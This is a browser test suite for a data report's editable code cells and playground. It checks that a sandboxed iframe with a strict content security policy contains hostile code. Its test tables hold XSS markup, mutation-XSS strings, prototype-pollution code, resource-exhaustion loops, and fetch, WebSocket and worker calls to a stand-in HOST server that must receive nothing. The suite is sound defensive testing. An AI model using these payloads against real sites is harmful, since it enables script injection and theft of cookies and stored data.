import {mkdirSync, mkdtempSync, rmSync, writeFileSync} from "node:fs";
import {createServer, type Server} from "node:http";
import type {AddressInfo} from "node:net";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {source as axe} from "axe-core";
import {build, type Plugin} from "esbuild";
import type {Browser, Page} from "playwright-core";
import {afterAll, afterEach, beforeAll, beforeEach, describe, expect, test} from "vitest";
import {writeClaims} from "../../data-loaders/claims/register.js";
import {writePublished} from "../../data-loaders/publish/published.js";
import {writeReportJson} from "../../data-loaders/publish/report-json.js";
import {writeRespondents} from "../../data-loaders/publish/respondents.js";
import {drawingDocument, sandboxDocument} from "../../data-loaders/publish/sandbox.js";
import {readRawFolder} from "../../data-loaders/read/raw.js";
import {readReport} from "../../data-loaders/read/report.js";
import {root} from "../../scripts/paths.js";
import {encodeCode} from "../../src/editor/code-link.js";
import {examples} from "../../src/report/playground.js";
import {launch, listen, serve} from "./browser.js";

/**
 * Editable cells and the playground in a real browser, with code that means harm.
 *
 * The components and the sandbox's document are the ones that are published, on two small pages under a strict policy;
 * that Framework builds them is for the tests of the built site.
 */
describe("editable cells", () => {
  /** The policy that pages have: no code out of text, no frames but this site's own. */
  const policy =
    "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; connect-src 'self'; frame-src 'self'; base-uri 'none'";
  const split = `const split = respondents
  .filter((d) => d.role !== null && d.view_of_reform !== null)
  .derive({agree: (d) => d.view_of_reform === "agree" || d.view_of_reform === "partly_agree"})
  .groupby("role", "agree")
  .count()
  .orderby("role", "agree");
split`;
  let folder: string;
  let site: Awaited<ReturnType<typeof serve>>;
  let elsewhere: Server;
  let other: string;
  const hits: string[] = [];
  let browser: Browser;
  let page: Page;
  let heard: string[];

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), "nav-offices-sandbox-"));
    const write = (path: string, contents: string | Uint8Array) => {
      mkdirSync(join(folder, path, ".."), {recursive: true});
      writeFileSync(join(folder, path), contents);
    };
    await bundlePages(folder);
    write("_file/sandbox/sandbox.html", await sandboxDocument(root));
    write("_file/sandbox/drawing.html", await drawingDocument(root));
    const raw = readRawFolder();
    const report = readReport(raw);
    write("_file/data/respondents.arrow", await writeRespondents(report, "2010", raw));
    write("_file/data/published.arrow", writePublished(report, raw));
    write("_file/data/report.json", writeReportJson(report, []));
    // Code that says “table” gets them, too.
    write("data/claims.arrow", await writeClaims(report, raw, new Map()));
    const html = (script: string) => `<!doctype html><html lang="en"><meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="${policy}"><title>Cells</title><link rel="icon" href="data:,">
<link rel="stylesheet" href="styles/editor.css"><main><h1>Cells</h1></main><script type="module" src="scripts/${script}.js"></script>`;
    write("cell.html", html("cell"));
    write("playground.html", html("playground"));
    elsewhere = createServer((request, response) => {
      hits.push(request.url ?? "");
      response.writeHead(200, {"access-control-allow-origin": "*", "content-type": "text/javascript"}).end("1");
    });
    elsewhere.on("upgrade", (request, socket) => {
      hits.push(`upgrade ${request.url}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
    other = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    [site, browser] = await Promise.all([serve(folder), launch()]);
  });
  afterAll(async () => {
    await browser?.close();
    site?.close();
    elsewhere?.close();
    rmSync(folder, {recursive: true, force: true});
  });
  beforeEach(async () => {
    hits.length = 0;
    page = await browser.newPage();
    heard = listen(page, site.url);
  });
  afterEach(() => page.close());

  /** Opens the page with one cell, and its editor. */
  async function openCell(): Promise<void> {
    await page.goto(`${site.url}/cell.html`);
    await page.getByRole("button", {name: "Edit"}).click();
    await page.locator(".cm-content").waitFor();
  }

  const code = () => page.evaluate(() => document.querySelector(".cm-content")?.textContent ?? "");
  const status = () => page.locator(".status").textContent();

  /** Puts code into the editor as a paste does, and runs it with the keyboard. Gives what the status says then. */
  async function run(text: string): Promise<string> {
    await page.locator(".cm-content").focus();
    await page.keyboard.press("ControlOrMeta+a");
    await page.keyboard.insertText(text);
    await page.keyboard.press("ControlOrMeta+Enter");
    await page.waitForFunction(
      () => !/^$|Running|loaded|as it was/.test(document.querySelector(".status")?.textContent ?? ""),
      undefined,
      {timeout: 0}
    );
    return (await status()) ?? "";
  }

  const cells = () =>
    page.evaluate(() =>
      [...document.querySelectorAll(".result tbody tr")].map((row) =>
        [...row.querySelectorAll("td")].map((cell) => cell.textContent ?? "")
      )
    );

  test("nothing of the editor or the sandbox is loaded before the reader asks for it", async () => {
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    await page.goto(`${site.url}/cell.html`);
    await page.getByRole("button", {name: "Edit"}).waitFor();
    expect(await page.locator("iframe").count()).toBe(0);
    const loaded = asked.join("\n");
    await page.getByRole("button", {name: "Edit"}).click();
    await page.locator(".cm-content").waitFor();
    expect(loaded).not.toContain("sandbox.html");
    expect(loaded).not.toContain("respondents");
    expect(asked.filter((url) => url.endsWith(".js")).length).toBeGreaterThan(
      loaded.split("\n").filter((url) => url.endsWith(".js")).length
    );
  });

  test("the split of table 25 comes out as printed, and its cut can be moved", async () => {
    await openCell();
    expect(await run(split)).toMatch(/^Done/);
    const printed: Record<string, [number, number]> = {
      adviser_reception: [70, 102],
      adviser_follow_up: [245, 302],
      adviser_both: [58, 111],
      management: [26, 87],
      clerical: [43, 36],
      other: [61, 78]
    };
    const counts = Object.fromEntries(Object.keys(printed).map((role) => [role, [] as number[]]));
    for (const [role = "", , count] of await cells()) counts[role]?.push(Number(count));
    expect(counts).toEqual(printed);

    await run(split.replace(' || d.view_of_reform === "partly_agree"', ""));
    const moved = Object.fromEntries((await cells()).filter((row) => row[1] === "true").map((row) => [row[0], row[2]]));
    expect(moved.management).toBe("40");
    expect(heard).toEqual([]);
  });

  test.each(examples)("example: $title", async ({code: text}) => {
    await openCell();
    expect(await run(text)).toMatch(/^Done in [\d.]+ s\.$/);
    expect(await page.locator(".result .output").count()).toBeGreaterThan(0);
    expect(heard).toEqual([]);
  });

  test("Plot draws in a frame without origin, as tall as the drawing", async () => {
    await openCell();
    await run("Plot.barY([3, 1, 2]).plot({height: 222})");
    const frame = page.locator(".result iframe");
    expect(await frame.getAttribute("sandbox")).toBe("allow-scripts");
    expect(await frame.contentFrame().locator("svg rect").count()).toBe(3);
    await expect.poll(() => frame.evaluate((node) => (node as HTMLElement).offsetHeight)).toBeGreaterThanOrEqual(222);
    await expect.poll(() => frame.evaluate((node) => (node as HTMLElement).offsetHeight)).toBeLessThan(240);
  });

  test("a drawing that never comes to its end is taken away, and the page answers all the while", async () => {
    await openCell();
    await run("Plot.barY([3, 1, 2]).plot()");
    const frame = await (await page.waitForSelector(".result iframe")).contentFrame();
    await frame?.waitForSelector("svg");
    // As a drawing does that takes for ever.
    const loop = frame?.evaluate(() => {
      for (;;);
    });
    loop?.catch(() => {});
    await page.getByRole("button", {name: "Copy"}).click();
    await expect.poll(status).toMatch(/copied/);
    await page.locator(".result .note", {hasText: "did not answer for 4 seconds"}).waitFor();
    expect(await page.locator(".result iframe").count()).toBe(0);
    await page.getByRole("button", {name: "Reset"}).click();
    expect(await page.locator(".result").textContent()).toBe("");
    expect(await page.locator(".own").textContent()).toBe("the page’s own result");
  });

  describe("code that means harm", () => {
    /** What the code does, and what the status says after it. `HOST` is a server that must hear nothing. */
    const cases: [name: string, code: string, says: RegExp][] = [
      ["loops for ever", "while (true) {}", /after 5 seconds/],
      ["waits for ever", "await new Promise(() => {})", /after 5 seconds/],
      ["loops for ever through promises", "while (true) await null", /after 5 seconds/],
      ["closes its worker", "self.close(); await new Promise(() => {})", /after 5 seconds/],
      ["fills an array", "new Array(1e9).fill(1).map((d) => ({d}))", /Stopped|RangeError/],
      ["writes without end", "for (;;) console.log('x'.repeat(1e5))", /after 5 seconds/],
      ["floods the frame", "for (;;) self.postMessage('x'.repeat(1e4))", /more than can be shown/],
      [
        "sends what is too large",
        "self.postMessage('x'.repeat(2e7)); await new Promise(() => {})",
        /more than can be shown/
      ],
      [
        "sends what is not text",
        "self.postMessage(new ArrayBuffer(8)); await new Promise(() => {})",
        /more than can be shown/
      ],
      [
        "forges a result",
        `self.postMessage(JSON.stringify({type: "done", outputs: [{kind: "markup", markup: "<img src=http://HOST/f onerror=parent.canary=0>"}, 7, null, {kind: "table", columns: {}, rows: 3}], problem: null})); await new Promise(() => {})`,
        /^Done/
      ],
      ["gives an endless text", "'x'.repeat(5e8)", /^Done/],
      ["gives a huge table", "aq.table({a: new Float64Array(3e6)})", /^Done/],
      [
        "gives what cannot be looked at",
        "new Proxy({}, {get() { throw 1; }, ownKeys() { throw 2; }, getPrototypeOf() { throw 3; }})",
        /^Done|threw/
      ],
      ["throws no error", "throw {toString() { throw 1; }}", /threw/],
      ["throws null", "throw null", /threw null/],
      ["does not parse", "const = 1", /Line 1/],
      ["ends the function that holds it", "})(); }); postMessage(1); (async function () { (async () => {", /Line 1/],
      ["imports", "import * as x from 'http://HOST/import.js'", /Nothing can be imported/],
      ["imports as it runs", "await import('http://HOST/dynamic.js')", /TypeError|Error/],
      ["imports data", "await import('data:text/javascript,export default 1')", /TypeError|Error/],
      ["fetches", "await fetch('http://HOST/fetch')", /Failed to fetch|TypeError/],
      ["fetches from this site", "await fetch('SITE/cell.html')", /Failed to fetch|TypeError/],
      [
        "uses XMLHttpRequest",
        "const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/xhr', false); x.send(); x.responseText",
        /Error/
      ],
      [
        "opens a socket",
        "await new Promise((_, no) => { const s = new WebSocket('ws://HOST/socket'); s.onerror = () => no(Error('shut')); })",
        /shut|Error/
      ],
      [
        "opens an event stream",
        "await new Promise((_, no) => { const s = new EventSource('http://HOST/events'); s.onerror = () => no(Error('shut')); })",
        /shut|Error/
      ],
      ["imports a script", "importScripts('http://HOST/script.js')", /Error/],
      [
        "loads a font",
        "const f = new FontFace('x', 'url(http://HOST/font)'); self.fonts?.add(f); await f.load()",
        /Error/
      ],
      [
        "starts workers",
        "await new Promise((_, no) => { new Worker('http://HOST/worker.js').onerror = () => no(Error('shut')); })",
        /Error/
      ],
      [
        "fetches from a worker of its own",
        "const w = new Worker(URL.createObjectURL(new Blob([`fetch('http://HOST/nested').then(() => postMessage('in'), () => postMessage('shut'))`]))); await new Promise((yes) => { w.onmessage = (e) => yes(e.data); w.onerror = () => yes('none'); })",
        /^Done/
      ],
      ["reads storage", "localStorage.getItem('canary')", /not defined|Error/],
      [
        "opens a data base",
        "await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = () => no(r.error); })",
        /Error/
      ],
      ["opens a cache", "await caches.open('x')", /Error/],
      [
        "reads a cookie",
        "document.cookie = 'canary=0'; window.parent.canary = 0; self.canary = 0; typeof window.parent.localStorage",
        /Error|Done/
      ],
      ["reaches for the page", "parent.document.title", /Error/],
      ["opens a window", "window.open('http://HOST/open')", /Error/],
      ["moves the page", "self.location = 'http://HOST/moved'; top.location = 'http://HOST/top'", /Error|Done/],
      [
        "spoils prototypes",
        "Object.prototype.toJSON = () => ({type: 'x'}); Array.prototype.map = null; JSON.stringify = null; MessagePort.prototype.postMessage = null; self.postMessage = null; Promise.prototype.then = () => { throw Error('in the worker'); }; 1",
        /Done|Stopped|Error|threw/
      ]
    ];

    test.each(cases)("%s", async (_name, text, says) => {
      await openCell();
      await plantCanary();
      const given = text.replaceAll("HOST", other).replaceAll("SITE", site.url);
      expect(await run(given)).toMatch(says);
      await expectUnharmed();
      expect(await run("1 + 1")).toMatch(/^Done/);
      expect(await page.locator(".result pre").textContent()).toBe("2");
    });

    // How far it comes depends on how fast the machine is, and on whether the browser gives the frame its own process.
    test("takes all the memory: stopped, or at worst the tab ends, which opens again as it was", async () => {
      await openCell();
      await plantCanary();
      const code = "const all = []; while (true) all.push(new Array(1e6).fill(Math.random()));";
      const ended = new Promise<string>((resolve) => page.once("crash", () => resolve("the tab ended")));
      expect(await Promise.race([run(code).catch(() => ended), ended])).toMatch(/Stopped|RangeError|the tab ended/);
      await page.close();
      page = await browser.newPage();
      heard = listen(page, site.url);
      await openCell();
      await plantCanary();
      expect(await run("1 + 1")).toMatch(/^Done/);
      await expectUnharmed();
    });

    const markups: [name: string, markup: string][] = [
      ["a script", "<script>parent.canary = 0; fetch('http://HOST/a')</script>"],
      [
        "handlers",
        "<img src=x onerror='parent.canary=0'><svg onload='parent.canary=0'><rect onclick='parent.canary=0'/></svg>"
      ],
      [
        "a picture",
        "<img src='http://HOST/img'><svg><image href='http://HOST/image' xlink:href='http://HOST/xlink'/></svg>"
      ],
      [
        "styles that load",
        "<style>@import 'http://HOST/css'; body{background:url(http://HOST/url)} @font-face{font-family:x;src:url(http://HOST/font)} *{font-family:x}</style><p style='background:u\\72l(http://HOST/escaped)'>x</p>"
      ],
      [
        "a style sheet and hints",
        "<link rel=stylesheet href='http://HOST/sheet'><link rel=preconnect href='http://HOST/'><link rel=prefetch href='http://HOST/prefetch'>"
      ],
      ["a refresh", "<meta http-equiv=refresh content='0;url=http://HOST/refresh'>"],
      ["a base", "<base href='http://HOST/'><p>x</p>"],
      [
        "frames",
        "<iframe src='http://HOST/frame'></iframe><iframe srcdoc='<script>top.canary=0</script>'></iframe><object data='http://HOST/object'></object><embed src='http://HOST/embed'>"
      ],
      [
        "an overlay",
        "<div id=over style='position:fixed;inset:0;z-index:99999;background:red'>x</div><style>html,iframe{position:fixed!important;inset:0}</style>"
      ],
      [
        "links",
        "<a href='http://HOST/link' target=_top ping='http://HOST/ping'>link</a><svg><a href='http://HOST/svg'><text y=20>link</text></a></svg>"
      ],
      ["a form", "<form action='http://HOST/form' target=_top><button>send</button></form>"],
      [
        "markup that is read twice",
        "<svg><style><!--</style><img src=x onerror=parent.canary=0>--></svg><math><mtext><table><mglyph><style><img src=x onerror=parent.canary=0></style>"
      ],
      [
        "an animation of an address",
        "<svg><a><text y=20>link</text><set attributeName=href to='javascript:parent.canary=0'/></a></svg>"
      ]
    ];

    test.each(markups)("shows %s", async (_name, markup) => {
      await openCell();
      await plantCanary();
      const value = JSON.stringify(markup.replaceAll("HOST", other));
      expect(await run(`({nodeType: 1, outerHTML: ${value}})`)).toMatch(/^Done/);
      // Markup that no element writes of itself is refused, before or after a frame has read it.
      await page.locator(".result .note, .result iframe[style*=height]").first().waitFor({state: "attached"});
      const frame = page.locator(".result iframe");
      const shown = (await frame.count()) > 0;
      if (!shown) expect(await page.locator(".result .note").textContent()).toMatch(/is not shown: its/);
      const box = shown ? await frame.boundingBox() : null;
      for (const link of shown ? await frame.contentFrame().locator("a, text, button").all() : []) {
        // What cannot be clicked is clicked all the same, or is not there to be clicked.
        await link.click({force: true}).catch(() => {});
      }
      // When the frame has loaded all and has nothing left to do, a refresh or a request has set out.
      if (shown) await frame.contentFrame().locator("body").evaluate(atRest);
      expect(box?.width ?? 0).toBeLessThanOrEqual(page.viewportSize()?.width ?? 0);
      expect(await page.locator("[name=run]").isVisible()).toBe(true);
      await page.locator("[name=run]").click({trial: true});
      await expectUnharmed();
      expect(await run("1 + 1")).toMatch(/^Done/);
    });

    /** What code that gets out would change. */
    async function plantCanary(): Promise<void> {
      await page.evaluate(() => {
        localStorage.setItem("canary", "alive");
        // biome-ignore lint/suspicious/noDocumentCookie: what foreign code would use too.
        document.cookie = "canary=alive";
        (window as unknown as {canary: string}).canary = "alive";
      });
    }

    async function expectUnharmed(): Promise<void> {
      const found = await page.evaluate(() => [
        localStorage.getItem("canary"),
        document.cookie,
        (window as unknown as {canary: string}).canary,
        document.title,
        location.pathname
      ]);
      expect(found).toEqual(["alive", "canary=alive", "alive", "Cells", "/cell.html"]);
      expect(hits).toEqual([]);
      // The browser says in its console that it kept something back; what it let through would be named otherwise.
      expect(heard.filter((line) => /^elsewhere|^error|^status/.test(line) && !blocked(line))).toEqual([]);
      expect(page.context().pages()).toHaveLength(1);
    }

    /** Requests are announced before the policy stops them: whether one left is for the other server to say. */
    const blocked = (line: string) =>
      // What a worker fails to catch is the worker’s; Playwright tells it as the page’s.
      line === "error: in the worker" ||
      line.startsWith(`elsewhere: http://${other}/`) ||
      line.startsWith(`elsewhere: ws://${other}/`);
  });

  test("the sandbox's document does nothing where it would have an origin", async () => {
    await page.goto(`${site.url}/cell.html`);
    const answered = await page.evaluate(
      () =>
        new Promise((resolve) => {
          const frame = document.createElement("iframe");
          frame.src = "_file/sandbox/sandbox.html";
          frame.onload = () => {
            const {port1, port2} = new MessageChannel();
            port1.onmessage = () => resolve("answered");
            frame.contentWindow?.postMessage({type: "open", files: []}, "*", [port2]);
            // What is sent later is heard later; an answer would be here by then.
            frame.contentWindow?.addEventListener("message", ({data}) => {
              if (data === "later") requestIdleCallback(() => resolve(frame.contentDocument?.body.textContent));
            });
            frame.contentWindow?.postMessage("later", "*");
          };
          document.body.append(frame);
        })
    );
    expect(answered).toContain("does nothing by itself");
  });

  test("errors stand at their line", async () => {
    await openCell();
    expect(await run("const a = 1;\n\n  undefinedName + a;\n")).toBe(
      "Line 3: ReferenceError: undefinedName is not defined"
    );
    await page.locator(".cm-lintRange-error").waitFor();
    const marked = () =>
      page.evaluate(() =>
        [...document.querySelectorAll(".cm-line")].flatMap((line, i) =>
          line.querySelector(".cm-lintRange-error") ? [i + 1] : []
        )
      );
    expect(await marked()).toEqual([3]);
    expect(await run("const a = 1;\nconst f = () => {\n  throw new RangeError('far');\n};\nf()")).toBe(
      "Line 3: RangeError: far"
    );
    expect(await run("1;\n2 +;\n3")).toMatch(/^Line 2: /);
    expect(await marked()).toEqual([2]);
    expect(await run("1;\n2;\n3")).toMatch(/^Done/);
    expect(await marked()).toEqual([]);
  });

  test("columns, codes, libraries and analysis functions are completed", async () => {
    await openCell();
    const offered = async (text: string) => {
      await page.locator(".cm-content").focus();
      await page.keyboard.press("Escape");
      await page.keyboard.press("ControlOrMeta+a");
      await page.keyboard.insertText(text);
      await page.keyboard.press("Control+Space");
      await page.locator(".cm-completionLabel").first().waitFor();
      return page.locator(".cm-completionLabel").allTextContents();
    };
    await run("1");
    expect(await offered("respondents.filter((d) => d.view")).toContain("view_of_reform");
    expect(await offered('d.view_of_reform === "')).toEqual(
      expect.arrayContaining(["disagree", "partly_disagree", "neither", "partly_agree", "agree"])
    );
    expect(await offered('d.view_of_reform === "')).not.toContain("management");
    expect(await offered("Plot.barX")).toContain("barX");
    expect(await offered("chiSq")).toContain("chiSquareTest");
    expect(await offered("respondents.groupb")).toContain("groupby");
  });

  test("Reset brings back the code, and the page's own result stays; Copy and the link carry the code", async () => {
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"], {origin: site.url});
    await openCell();
    const before = await code();
    await run("'changed'");
    expect(await page.locator(".result").textContent()).toContain("changed");
    await page.getByRole("button", {name: "Copy"}).click();
    await expect.poll(status).toBe("The code was copied.");
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("'changed'");
    const link = page.getByRole("link", {name: "Open in the playground"});
    await expect
      .poll(() => link.getAttribute("href"))
      .toBe(`${site.url}/playground.html#code=${await encodeCode("'changed'")}`);
    await page.getByRole("button", {name: "Reset"}).click();
    expect(await code()).toBe(before);
    expect(await page.locator(".result").textContent()).toBe("");
    expect(await page.locator(".own").textContent()).toBe("the page’s own result");
  });

  test("the keyboard gets out of the editor, and it is labelled", async () => {
    await openCell();
    await page.keyboard.press("Tab");
    expect(await page.evaluate(() => document.activeElement?.className)).toContain("cm-content");
    await page.keyboard.press("Escape");
    await page.keyboard.press("Tab");
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Run");
    const editor = page.getByRole("textbox", {name: "Code of this cell"});
    const help = await editor.getAttribute("aria-describedby");
    expect(await page.locator(`#${help}`).textContent()).toMatch(/Esc.*Tab.*leaves the editor/s);
  });

  test.each(["light", "dark"] as const)("axe has nothing to say of an open cell, %s", async (colorScheme) => {
    await page.emulateMedia({colorScheme});
    await openCell();
    await run(
      '// how many\nconst n = respondents.numRows();\nconsole.log("n", 12, n);\ndisplay(respondents);\nPlot.barY([1, 2]).plot()'
    );
    await page.evaluate(axe);
    const found = await page.evaluate(async () => {
      const {axe} = window as unknown as {
        axe: {run: (c: Document, o: object) => Promise<{violations: {id: string; nodes: {html: string}[]}[]}>};
      };
      return (await axe.run(document, {rules: {region: {enabled: false}}})).violations;
    });
    expect(found.map(({id, nodes}) => `${id}: ${nodes.map((node) => node.html).join(" ")}`)).toEqual([]);
  });

  describe("the playground", () => {
    test("starts empty", async () => {
      await page.goto(`${site.url}/playground.html`);
      await page.locator(".cm-content").waitFor();
      expect(await code()).toBe("");
      expect(heard).toEqual([]);
    });

    test("does not run code that comes with a link before the reader presses Run", async () => {
      const text = "console.log('it ran'); 6 * 7";
      await page.goto(`${site.url}/playground.html#code=${await encodeCode(text)}`);
      await expect.poll(code).toBe(text);
      await expect.poll(() => page.locator(".foreign").textContent()).toContain("not until you press Run");
      await page.waitForLoadState("networkidle");
      await page.evaluate(atRest);
      expect(await page.locator(".result").textContent()).toBe("");
      await page.getByRole("button", {name: "Run"}).click();
      await expect.poll(() => page.locator(".result").textContent()).toContain("42");
      expect(await page.locator(".result .lines").textContent()).toContain("it ran");
    });

    test("says so when a link is cut off or unpacks to too much", async () => {
      const huge = await encodeCode("0".repeat(5_000_000));
      for (const text of ["%%%", "AAAA", huge]) {
        await page.goto("about:blank");
        await page.goto(`${site.url}/playground.html#code=${text}`);
        await expect.poll(() => page.locator(".foreign").textContent()).toContain("cannot be read");
        expect(await code()).toBe("");
      }
    });

    test("takes an example with one click, and gives a link to it", async () => {
      await page.context().grantPermissions(["clipboard-read", "clipboard-write"], {origin: site.url});
      await page.goto(`${site.url}/playground.html`);
      await page.getByRole("button", {name: examples[0]?.title ?? ""}).click();
      expect(await status()).toContain("not been run");
      await page.getByRole("button", {name: "Copy link"}).click();
      await expect.poll(status).toContain("was copied");
      expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
        `${site.url}/playground.html#code=${await encodeCode(examples[0]?.code ?? "")}`
      );
    });
  });
});

/** The components as the site has them, with Framework's library replaced by the addresses that its build would give. */
async function bundlePages(folder: string): Promise<void> {
  const stdlib: Plugin = {
    name: "stdlib",
    setup({onResolve, onLoad}) {
      onResolve({filter: /^observablehq:stdlib$/}, ({path}) => ({path, namespace: "stdlib"}));
      onLoad({filter: /.*/, namespace: "stdlib"}, () => ({
        contents: `export function FileAttachment(path) {
          const name = path.startsWith("../data/") ? path.slice(3) : "sandbox/" + path.slice(2);
          const href = new URL("../_file/" + name, import.meta.url).href;
          return {href, arrayBuffer: async () => (await fetch(href)).arrayBuffer()};
        }`
      }));
      onResolve({filter: /^page:/}, ({path}) => ({path: path.slice("page:".length), namespace: "page"}));
      onLoad({filter: /.*/, namespace: "page"}, ({path}) => ({contents: pages[path] ?? "", resolveDir: root}));
    }
  };
  const pages: Record<string, string> = {
    cell: `import {startEditing} from "./src/editor/edit-in-place.ts";
      startEditing();
      document.querySelector("main").innerHTML += \`<p class="own">the page’s own result</p>
        <details class="code"><summary>Code</summary><pre tabindex="0">[1, 2, 3].map((d) => d * 2)</pre></details>\`;
      document.querySelector("details").open = true;`,
    playground: `import {playground} from "./src/editor/playground.ts";
      import {examples} from "./src/report/playground.ts";
      document.querySelector("main").append(playground(examples));`
  };
  await build({
    entryPoints: {"scripts/cell": "page:cell", "scripts/playground": "page:playground"},
    outdir: folder,
    chunkNames: "scripts/[name]-[hash]",
    bundle: true,
    splitting: true,
    format: "esm",
    platform: "browser",
    target: "es2022",
    logLevel: "warning",
    plugins: [stdlib]
  });
  await build({
    stdin: {
      // The colours that the site's theme gives.
      contents: `@import "./src/editor/editor.css";
        :root { --theme-foreground: #1b1e23; --theme-background-a: #fff; --theme-foreground-muted: #45484e; --theme-foreground-faint: #666; --theme-foreground-focus: #2a5ca8; --verdict-bad: #b3261e; color: var(--theme-foreground); background: var(--theme-background-a); color-scheme: light dark; }
        @media (prefers-color-scheme: dark) { :root { --theme-foreground: #dfdfd6; --theme-background-a: #161616; --theme-foreground-muted: #b0b0ab; --theme-foreground-faint: #999; --theme-foreground-focus: #a7c5f5; --verdict-bad: #ff9d94; } }`,
      loader: "css",
      resolveDir: root
    },
    bundle: true,
    outfile: join(folder, "styles/editor.css")
  });
}

/** Runs in a document: waits until it has loaded and has nothing to do. */
function atRest(): Promise<unknown> {
  return new Promise((resolve) => {
    // A frame in which nothing is left to show has no height, and the browser never calls it idle by itself.
    const idle = () => requestIdleCallback(resolve, {timeout: 1_000});
    if (document.readyState === "complete") idle();
    else addEventListener("load", idle);
  });
}
